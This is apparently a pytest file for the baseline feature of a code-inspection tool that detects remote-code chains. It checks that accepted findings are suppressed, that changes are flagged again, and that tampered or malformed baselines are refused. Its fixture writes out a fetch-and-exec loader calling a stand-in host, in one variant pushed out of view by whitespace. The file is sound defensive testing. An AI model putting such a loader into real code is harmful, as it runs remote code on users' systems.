"""A baseline accepts what its owner looked at, exactly that, and never comes with the input."""

import contextlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sekisho.inspection.baseline import (
    BaselineInside,
    MalformedBaseline,
    accept,
    evidence,
    outside,
    read_baseline,
    write_baseline,
)
from sekisho.inspection.judge import Inspection
from sekisho.inspection.rules.chain import Chain, Verdict
from support.inspection import Files, inspected, virtual

LOADER = "import requests\nURL = 'https://a.invalid'\nexec(requests.get(URL).text)\n"
KNOWN: Files = {"plugins.py": LOADER, "app.py": "import plugins\n"}


def against(files: Files, known: Files = KNOWN) -> Inspection:
    """The answer for `files`, by a baseline of all that is in `known`."""
    baseline = read_baseline(write_baseline(inspected(known), virtual(known)))
    return accept(inspected(files), virtual(files), baseline)


def test_what_was_accepted_is_shown_and_does_not_count() -> None:
    found = against(KNOWN)
    assert inspected(KNOWN).verdict is Verdict.BLOCK
    assert found.verdict is Verdict.NO_CHAIN_FOUND
    assert [chain.rule for chain in found.accepted] == ["remote_code"]
    assert found.chains == ()


NEW = {
    "another host, on another line than the chain's": {"plugins.py": LOADER.replace("a.invalid", "b.invalid")},
    "the line itself": {"plugins.py": LOADER.replace("get(URL)", "get(URL + 'x')")},
    "a second such line": {"plugins.py": LOADER + "exec(requests.get(URL).text)\n"},
    "far to the right": {"plugins.py": LOADER.replace("text)", "text)" + " " * 300 + "; x = 1")},
    "the same in another file": {"other.py": LOADER},
}


@pytest.mark.parametrize("files", NEW.values(), ids=NEW)
def test_what_changed_is_new_again(files: Files) -> None:
    assert against({**KNOWN, **files}).verdict is Verdict.BLOCK


def test_a_file_that_no_step_stands_in_may_change() -> None:
    assert against({**KNOWN, "other.py": "print(1)\n"}).verdict is Verdict.NO_CHAIN_FOUND


def test_what_could_not_be_read_is_not_accepted() -> None:
    unread = inspected(KNOWN)._replace(unread_input=1)
    baseline = read_baseline(write_baseline(unread, virtual(KNOWN)))
    assert accept(unread, virtual(KNOWN), baseline).verdict is Verdict.REVIEW


def test_what_was_accepted_before_is_accepted_in_a_new_baseline() -> None:
    again = write_baseline(against(KNOWN), virtual(KNOWN))
    assert again == write_baseline(inspected(KNOWN), virtual(KNOWN))


def test_a_chain_keeps_its_name_when_its_lines_move() -> None:
    def only(source: str) -> Chain:
        return inspected({"a.py": source}).chains[0]

    assert evidence(only(LOADER)) == evidence(only("# more\n" + LOADER))
    assert evidence(only(LOADER)) != evidence(only(LOADER.replace("get(URL)", "get(URL, 1)")))


def test_a_baseline_that_comes_with_the_input_is_refused(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    mine = tmp_path / "mine.json"
    mine.write_text("{}")
    (tree / "theirs.json").write_text("{}")
    (tree / "link.json").symlink_to(mine)
    (tmp_path / "way-in.json").symlink_to(tree / "theirs.json")
    (tmp_path / "door").symlink_to(tree)
    outside(mine, tree)
    for inside in (
        tree / "theirs.json",
        tree / "link.json",
        tmp_path / "way-in.json",
        tmp_path / "door" / "theirs.json",
        tree / ".." / "tree" / "theirs.json",
    ):
        with pytest.raises(BaselineInside):
            outside(inside, tree)
    with pytest.raises(BaselineInside):
        outside(mine, mine)


WRONG = {
    "nothing": b"",
    "no JSON": b"accepted",
    "a list": b"[]",
    "another version": b'{"sekisho_baseline": 2, "accepted": []}',
    "no list": b'{"sekisho_baseline": 1}',
    "a key that is none": b'{"sekisho_baseline": 1, "accepted": [{"key": "00"}]}',
    "a key in capitals": b'{"sekisho_baseline": 1, "accepted": [{"key": "%s"}]}' % (b"A" * 64),
    "an entry without a key": b'{"sekisho_baseline": 1, "accepted": [{}]}',
    "an entry that is none": b'{"sekisho_baseline": 1, "accepted": ["x"]}',
    "too deep": b"[" * 100_000,
    "a number without end": b'{"sekisho_baseline": ' + b"1" * 10_000 + b"}",
}


@pytest.mark.parametrize("raw", WRONG.values(), ids=WRONG)
def test_a_wrong_baseline_accepts_nothing(raw: bytes) -> None:
    with pytest.raises(MalformedBaseline):
        read_baseline(raw)


@given(st.binary())
def test_any_bytes_are_a_baseline_or_malformed(raw: bytes) -> None:
    with contextlib.suppress(MalformedBaseline):
        assert isinstance(read_baseline(raw), frozenset)
